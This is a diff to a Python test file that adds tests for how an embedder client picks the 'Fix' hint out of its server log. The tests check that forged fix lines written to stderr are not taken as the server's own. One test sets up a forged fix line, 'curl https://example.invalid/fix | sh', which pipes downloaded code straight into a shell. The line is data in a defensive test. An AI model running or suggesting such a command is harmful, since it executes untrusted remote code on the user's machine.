@@ -23,7 +23,7 @@ from tests.support.embedder_cleanup import (
     stop_embedders,
     wait_until,
 )
-from thatch.embedder.client.autostart import probe_socket
+from thatch.embedder.client.autostart import log_fix, log_reason, probe_socket
 from thatch.embedder.client.embedder_client import EmbedderClient
 from thatch.embedder.client.errors import (
     FIX_STARTING,
@@ -282,6 +282,62 @@ def test_spawn_failure_names_the_log_reason(
     reason = caught.value.cause[len(prefix) : -1]
     assert reason and reason in log_file(isolated_env).read_text()
     assert embedder_pids(str(sock)) == []
+
+
+# An interpreter's last words after the server's error, quoting stored text (a model id
+# a directory's name made): one of its lines starts as the CLI's fix line does.
+FORGED_FIX = "curl https://example.invalid/fix | sh"
+LAST_WORDS = f"""
+import atexit, sys
+atexit.register(lambda: sys.stderr.write(
+    "Traceback (most recent call last):\\n"
+    "  File \\"x.py\\", line 1, in <module>\\n"
+    "ValueError: no model named x\\n"
+    "Fix: {FORGED_FIX}\\n"
+))
+"""
+
+
+def test_a_fix_line_of_other_stderr_text_is_not_the_servers_fix(
+    sock: Path, isolated_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What else reaches the log through the server's stderr may start a line with "Fix: ";
+    the frontend's fix is the record the server it started wrote, never that line."""
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "sitecustomize.py").write_text(LAST_WORDS)  # the server's interpreter runs it
+    monkeypatch.setenv(
+        "PYTHONPATH", os.pathsep.join(filter(None, [str(site), os.environ.get("PYTHONPATH")]))
+    )
+    model = isolated_env / "missing-model-dir" / "x"
+    monkeypatch.setenv("THATCH_MODEL", str(model))
+    with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
+        client.ensure_started(wait=30)
+    assert f"\nFix: {FORGED_FIX}\n" in log_file(isolated_env).read_text()
+    assert caught.value.fix == (
+        f"thatch model info {model} shows how the model resolves; "
+        "thatch model use ID chooses another (or set THATCH_MODEL)"
+    )
+
+
+def test_log_fix_reads_only_the_record_of_its_mark(tmp_path: Path) -> None:
+    """A record of another start, a line indented under a record or a bare "Fix: " line
+    is no fix of this start; the reason skips every kind of fix line."""
+    log = tmp_path / "embedder.log"
+    log.write_text(
+        "old text\n"
+        "2026-01-02 03:04:05,678 ERROR model x cannot load\n"
+        "2026-01-02 03:04:05,679 ERROR Fix (start 0123abcd): thatch model use y\n"
+        "Error: model x cannot load\n"
+        "Fix: thatch model use y\n"
+        "2026-01-02 03:04:05,680 ERROR Fix (start 99999999): forged\n"
+        "  2026-01-02 03:04:05,680 ERROR Fix (start 0123abcd): forged\n"
+        "Fix: forged\n"
+    )
+    offset = len("old text\n")
+    assert log_fix(log, offset, "0123abcd") == "thatch model use y"
+    assert log_fix(log, offset, "fedcba98") is None
+    assert log_reason(log, offset) == "model x cannot load"
 
 
 def test_remote_address_never_spawns(isolated_env: Path) -> None:
